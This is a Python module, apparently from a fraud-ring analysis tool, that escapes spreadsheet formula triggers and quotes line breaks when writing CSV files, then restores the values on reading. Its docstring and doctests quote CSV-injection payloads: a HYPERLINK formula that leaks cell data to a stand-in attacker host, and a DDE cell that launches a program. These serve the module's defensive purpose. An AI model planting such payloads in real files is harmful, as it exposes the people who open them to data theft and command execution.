"""CSV files a person may open in a spreadsheet: formulas defused, line breaks quoted, and read back as written.

Every human-openable CSV graphring writes (``ring_members.csv``,
``problems.csv``, watchlists, ``alerts.csv``, ``new_clusters.csv``, the
referral pack's tables) goes through :func:`write_csv`, and every one graphring
reads back (``read_run``, ``screen --against``, ``rings --previous``, watchlist
import) through :func:`read_csv` or :func:`restore_frame`. Values such as
complaint texts, agents and borrower ids come from the people under
investigation, and Excel or WPS would run a cell such as
``=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")`` as a live formula.

The output escaping rule (OWASP "CSV injection"), documented in
``docs/output_csv.md``:

* a text cell whose first character is ``=``, ``+``, ``-``, ``@``, tab or
  carriage return gets a leading ``'`` — unless the whole cell is a plain number
  (``-12.5``, ``+8613800000000``, ``1,234.50``), which a spreadsheet shows as a
  number and never runs;
* the same at every line start inside a cell (after each ``\\r`` or ``\\n``),
  because some readers split a row at a bare carriage return;
* a cell that already starts with ``'`` followed by such a character gets one
  more ``'``, so the rule can be undone exactly: :func:`restore` removes one
  ``'`` wherever :func:`defuse` added one;
* every field containing the delimiter, a quote, ``\\r`` or ``\\n`` is quoted
  (Python's ``csv`` module alone leaves a bare ``\\r`` unquoted when rows end
  with ``\\n``).

Numbers written from numeric columns (scores, row numbers, amounts) are never
touched.

Examples
--------
>>> defuse('=HYPERLINK("http://x")'), defuse("+8613800000000"), defuse("-12.5"), defuse("@SUM(A1)")
('\\'=HYPERLINK("http://x")', '+8613800000000', '-12.5', "'@SUM(A1)")
>>> defuse("我要投诉催收\\r=cmd|' /C calc'!A0")
"我要投诉催收\\r'=cmd|' /C calc'!A0"
>>> all(restore(defuse(v)) == v for v in ["=1+1", "'=1", "''-x", "a\\n@b", "-12.5", "\\t", "plain", ""])
True
>>> import tempfile, pathlib
>>> p = pathlib.Path(tempfile.mkdtemp()) / "x.csv"
>>> _ = write_csv(pd.DataFrame({"id": ["=1+1", "a,b"], "score": [-0.5, 2]}), p)
>>> p.read_bytes()
b'id,score\\n\\'=1+1,-0.5\\n"a,b",2.0\\n'
>>> read_csv(p).to_dict("list")
{'id': ['=1+1', 'a,b'], 'score': ['-0.5', '2.0']}

A bare carriage return in any cell: every text field is quoted (numbers stay bare).

>>> _ = write_csv(pd.DataFrame({"id": ["x\\r=1", "y"], "score": [-0.5, 2]}), p)
>>> p.read_bytes()
b'"id","score"\\n"x\\r\\'=1",-0.5\\n"y",2.0\\n'
>>> read_csv(p)["id"].tolist()
['x\\r=1', 'y']
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd

__all__ = ["defuse", "restore", "defuse_frame", "restore_frame", "write_csv", "read_csv", "TRIGGERS"]

#: First characters a spreadsheet treats as the start of a formula (OWASP).
TRIGGERS = "=+-@\t\r"

_NUMBER = re.compile(r"[+-]?\d[\d., ]*")
# a line start (the cell's start, or right after \r or \n) followed by zero or more ' and a trigger
_NEEDS = re.compile(r"(?:^|(?<=[\r\n]))(?='*[=+\-@\t\r])")
_ADDED = re.compile(r"(?:^|(?<=[\r\n]))'(?='*[=+\-@\t\r])")
_ANY = r"(?:^|[\r\n])'*[=+\-@\t\r]"
_ANY_ADDED = r"(?:^|[\r\n])'+[=+\-@\t\r]"


def defuse(v):
    """The value as written to a CSV cell: ``'`` before a formula start (see the module docstring).

    Non-strings and plain numbers are returned unchanged.
    """
    if not isinstance(v, str) or not v or _NUMBER.fullmatch(v):
        return v
    return _NEEDS.sub("'", v)


def restore(v):
    """Undo :func:`defuse`: the value as it was before it was written.

    Examples
    --------
    >>> restore("'=1+1"), restore("''=x"), restore("'plain"), restore("a\\n'@b")
    ('=1+1', "'=x", "'plain", 'a\\n@b')
    """
    if not isinstance(v, str) or "'" not in v:
        return v
    return _ADDED.sub("", v)


def _is_text(s: pd.Series):
    return s.map(lambda x: isinstance(x, str)).to_numpy(bool)


def _text_columns(df: pd.DataFrame) -> list:
    return [c for c in df.columns if df[c].dtype == object or pd.api.types.is_string_dtype(df[c].dtype)]


def _map_text_cells(df: pd.DataFrame, pattern: str, fn) -> pd.DataFrame:
    """A copy of ``df`` with ``fn`` applied to the text cells matching ``pattern`` (by position: names may repeat)."""
    out = df.copy()
    for j in range(df.shape[1]):
        s = df.iloc[:, j]
        if not (s.dtype == object or pd.api.types.is_string_dtype(s.dtype)):
            continue
        hit = _is_text(s) & s.astype(str).str.contains(pattern, regex=True, na=False).to_numpy(bool)
        if hit.any():
            col = s.astype(object)
            col[hit] = [fn(x) for x in s[hit]]
            out.isetitem(j, col)
    return out


def defuse_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell defused (numeric columns untouched).

    Examples
    --------
    >>> defuse_frame(pd.DataFrame({"a": ["=x", "y"], "n": [-1, 2]})).to_dict("list")
    {'a': ["'=x", 'y'], 'n': [-1, 2]}
    """
    return _map_text_cells(df, _ANY, defuse)


def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`defuse_frame` on a table read with ``dtype=str`` (column names too).

    Examples
    --------
    >>> restore_frame(pd.DataFrame({"'=h": ["'=x", "'-12.5", "y"]})).to_dict("list")
    {'=h': ['=x', '-12.5', 'y']}
    """
    out = _map_text_cells(df, _ANY_ADDED, restore)
    out.columns = [restore(c) for c in df.columns]
    return out


def write_csv(df: pd.DataFrame, path: str | Path, *, bom: bool = False, index: bool = False,
              formulas: bool = True) -> Path:
    """Write ``df`` as a spreadsheet-safe CSV (UTF-8, ``\\n`` row ends) and return the path.

    Parameters
    ----------
    df : DataFrame
    path : path
    bom : bool
        Start with a UTF-8 byte-order mark (Excel then opens Chinese text correctly).
    index : bool
        Write the index as the first column.
    formulas : bool
        Defuse formulas (the default). ``False`` only quotes, for tables written as
        input for graphring itself (:func:`graphring.watch.screen.split_folder`), whose
        values must stay as given.
    """
    path = Path(path)
    d = defuse_frame(df) if formulas else df.copy()
    d.columns = [defuse(str(c)) if formulas else str(c) for c in d.columns]
    text_cols = _text_columns(d)
    has_cr = any(d[c].astype(str).str.contains("\r", regex=False, na=False).any() for c in text_cols) or \
        any("\r" in c for c in d.columns)
    # csv (and so pandas) quotes a field holding the delimiter, a quote or a character of the row end;
    # with "\n" row ends a bare "\r" would stay unquoted: then every text field is quoted (numbers stay bare)
    quoting = csv.QUOTE_NONNUMERIC if has_cr else csv.QUOTE_MINIMAL
    d.to_csv(path, index=index, encoding="utf-8-sig" if bom else "utf-8", lineterminator="\n", quoting=quoting)
    return path


def read_csv(path: str | Path, **kwargs) -> pd.DataFrame:
    """Read a CSV written by :func:`write_csv` (every cell text, missing as ``""``) with the escaping undone."""
    kw = {"dtype": str, "keep_default_na": False, "encoding": "utf-8-sig", **kwargs}
    return restore_frame(pd.read_csv(path, **kw))
